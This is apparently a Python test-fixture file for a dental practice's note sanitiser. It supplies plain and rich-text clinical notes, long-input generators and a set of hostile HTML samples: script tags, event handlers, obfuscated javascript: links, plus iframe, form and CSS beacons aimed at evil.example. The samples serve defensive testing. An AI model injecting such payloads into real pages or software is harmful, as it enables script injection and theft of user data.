"""What notes say: plain text, rich text of a word processor, and rich text that wants to do harm."""

from __future__ import annotations

from collections.abc import Mapping

PLAIN = (
    "Rang patient, left a message about the recall.",
    "Asked for a payment plan; OK'd by Kylie.\n\nWill bring card next time.",
    "Pt presented with pain LL, 3/7. Percussion +ve 36. PA taken. Discussed RCT vs extraction, wishes to think.",
    "Requests morning appointments only. <urgent> & do not text.",
    "Sensibility 36 −ve, 35 +ve; probing ≤ 3 mm.",
)
RICH = (
    "<p>Examination and clean. <b>No caries.</b> Recall in <i>six</i> months.</p>",
    "<p>Options discussed:</p><ol><li>Crown 46</li><li>Onlay &amp; review</li><li>Do nothing</li></ol>",
    "<ul><li>LA 2.2&nbsp;ml</li><li>Rubber dam<ul><li>clamp W8A</li></ul></li></ul><p>Tolerated well.</p>",
    '<p>See <a href="https://fund.example/claim?id=7&amp;x=1">the claim</a> and <u>ring back</u>.</p>',
    "<table><tr><th>Tooth</th><th>Pocket</th></tr><tr><td>16</td><td>4&nbsp;mm</td></tr>"
    "<tr><td>26</td><td>5&nbsp;mm</td></tr></table>",
    '<div style="font-family:Calibri"><span style="color:#c00">ALERT</span>: warfarin<br>INR 2.4</div>',
)
EMOJI = "<p>Lovely visit 🦷✨ – 👨‍👩‍👧‍👦 all coming in May 🇦🇺</p>"

# Each is real text with one thing that must not survive, and that must not swallow the text around it.
HOSTILE: Mapping[str, str] = {
    "script": "<p>Before</p><script>alert('note')</script><p>after</p>",
    "onclick": "<p onclick=\"steal()\" onmouseover='x()'>Clicked</p>",
    "javascript_link": '<p>See <a href="JaVaScRiPt:alert(1)">this</a> and <a href="java\tscript:alert(2)">that</a></p>',
    "iframe": '<p>Video</p><iframe src="https://evil.example/x" width="1"></iframe><p>seen</p>',
    "style": "<style>body{display:none} p{background:url('https://evil.example/t')}</style><p>Styled</p>",
    "data_image": '<p>Scan <img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(1)"> attached</p>',
    "svg": "<svg/onload=alert(1)><p>Drawn</p></svg>",
    "unclosed": "<p>Half <b>bold <i>text<table><td>cell<script>alert(1)",
    "form": '<form action="https://evil.example"><input name=q value="pay"><button>OK</button></form><p>Form</p>',
    "comment": "<!--[if mso]><p>Word</p><![endif]--><p>Pasted&#x20;from Word</p><o:p></o:p>",
}

LONG_HTML = 104_000
LONG_TEXT = 120_000
LONGEST_HTML = 150_000  # beyond what readers of CSV files take for one cell unless told


def long_text(characters: int) -> str:
    lines: list[str] = []
    size = 0
    while size < characters:
        line = f"{len(lines) + 1}. Perio chart continued: 16 343, 15 323, 14 434; “bleeding” – see photo. 🦷"
        lines.append(line)
        size += len(line) + 1
    return "\n".join(lines)


def long_html(characters: int) -> str:
    parts, size = ["<table>"], 0
    while size < characters:
        number = len(parts)
        part = f"<tr><td>{number}</td><td><b>Visit {number}</b> &ndash; probing &le; 4&nbsp;mm, “stable”</td></tr>"
        parts.append(part)
        size += len(part)
    return "".join([*parts, "</table>"])
